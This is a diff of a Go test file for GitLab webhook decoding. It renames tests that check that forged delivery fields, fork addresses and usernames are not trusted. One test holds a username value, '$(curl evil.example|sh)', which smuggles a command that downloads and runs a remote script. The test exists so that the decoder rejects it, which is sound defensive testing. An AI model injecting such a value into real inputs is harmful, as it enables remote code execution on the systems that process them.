@@ -105,7 +105,7 @@ func (b bench) planned(t *testing.T, event *v1alpha1.GitEventSpec) (*v1alpha1.Gi
 
 // Whoever knows a webhook's token can send any body. Each field of the event in turn says something
 // else than GitLab does.
-func TestNothingOfADeliveryIsBelievedWithoutAReason(t *testing.T) {
+func TestCompleteTrustsNoUnconfirmedField(t *testing.T) {
 	reasons := map[string]bool{}
 	for name, open := range forgeries(t) {
 		t.Run(name, func(t *testing.T) {
@@ -184,7 +184,7 @@ func forgeIn(v reflect.Value) {
 
 // A fork that the token may not read has no address that GitLab vouches for. One 404 may be a
 // replica's.
-func TestTheAddressOfAForkIsGitLabsWord(t *testing.T) {
+func TestCompleteReadsForkURL(t *testing.T) {
 	event := func(b bench, iid int64) *v1alpha1.GitEventSpec {
 		return b.decode(b.MergeRequestDelivery(forgelab.MergeRequestEvent{Project: testProject, IID: iid}))
 	}
@@ -209,7 +209,7 @@ func TestTheAddressOfAForkIsGitLabsWord(t *testing.T) {
 }
 
 // A sender is a placeholder of templates, so that it must be a name that GitLab could have given.
-func TestDecodeRefusesNamesThatNoUserHas(t *testing.T) {
+func TestDecodeRefusesInvalidUsernames(t *testing.T) {
 	const evil = `"username": "$(curl evil.example|sh)"`
 	for file, c := range map[string]struct{ event, old, field string }{
 		"push-branch":        {eventPush, `"user_username": "ada"`, "user_username"},
